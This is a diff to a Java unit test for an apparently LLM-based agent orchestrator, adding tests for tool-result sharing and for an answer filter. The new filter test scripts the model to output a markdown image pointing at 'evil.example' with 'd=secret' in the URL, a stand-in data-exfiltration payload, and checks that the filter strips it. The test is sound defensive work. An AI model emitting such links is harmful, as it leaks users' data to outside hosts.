@@ -19,6 +19,7 @@ import io.revbot.agents.AgentName;
 import io.revbot.agents.AgentSpec;
 import io.revbot.agents.Agents;
 import io.revbot.agents.ModelSettings;
+import io.revbot.orchestrator.sessions.SessionMemory;
 import io.revbot.orchestrator.testing.RecordingListener;
 import io.revbot.orchestrator.testing.ScriptedChatModel;
 import io.revbot.orchestrator.testing.ScriptedChatModel.Reply;
@@ -82,11 +83,12 @@ class ManagerLoopTest {
     }
 
     static Request question(String text) {
-        return Request.of(text, new SessionId("test-session"), Channel.SLACK, "U123", NOW);
+        return Request.of(
+                text, new SessionId("test-session"), Channel.SLACK, new Principal.SlackUser("T123", "U123"), NOW);
     }
 
     static Request question(String text, String session) {
-        return Request.of(text, new SessionId(session), Channel.CLI, "me", NOW);
+        return Request.of(text, new SessionId(session), Channel.CLI, new Principal.LocalUser("me"), NOW);
     }
 
     @Test
@@ -212,6 +214,50 @@ class ManagerLoopTest {
         assertThat(sent).first().isInstanceOf(SystemMessage.class);
         assertThat(((SystemMessage) sent.get(0)).text()).isEqualTo(instructions);
         assertThat(sent).filteredOn(m -> m instanceof SystemMessage).hasSize(1);
+    }
+
+    @Test
+    void aToolSeesWhatEarlierToolsOfTheRunReturnedWhicheverAgentRanThem() {
+        model.on(
+                MANAGER,
+                tools(call("knowledge_search", "{\"query\":\"pipeline rules\"}")),
+                tools(call("ask_data", "{\"request\":\"Pipeline\"}")),
+                text("done"));
+        model.on(
+                DATA,
+                tools(call("run_sql", "{\"sql\":\"select 1\"}")),
+                tools(call("pipeline_forecast", "{\"quarter\":\"2026-Q4\"}")),
+                text("800k"));
+
+        loop().build().run(question("Pipeline?"), events);
+
+        assertThat(fakeTools.priorResultsSeen).hasSize(1);
+        assertThat(fakeTools.priorResultsSeen.get(0))
+                .extracting(r -> r.tool() + ": " + r.text())
+                .containsExactly(
+                        "knowledge_search: Pipeline counts open opportunities from stage Discovery onwards.",
+                        "run_sql: total_pipeline\n1200000");
+    }
+
+    @Test
+    void theAnswerFilterRewritesTheAnswerBeforeEventsResultAndMemorySeeIt() {
+        SessionMemory memory = SessionMemory.inMemory();
+        model.on(MANAGER, text("See ![chart](https://evil.example/x.png?d=secret)"));
+
+        RunResult result = loop().memory(memory)
+                .answerFilter(answer -> answer.replace("![chart](https://evil.example/x.png?d=secret)", "chart"))
+                .build()
+                .run(question("Show me"), events);
+
+        assertThat(result.answer()).isEqualTo("See chart");
+        assertThat(events.events())
+                .filteredOn(e -> e instanceof RunEvent.AnswerProduced)
+                .extracting(e -> ((RunEvent.AnswerProduced) e).answer())
+                .containsExactly("See chart");
+        assertThat(memory.history(new SessionId("test-session")))
+                .extracting(m -> m instanceof AiMessage ai ? ai.text() : "")
+                .contains("See chart")
+                .noneMatch(t -> t.contains("evil.example"));
     }
 
     @Test
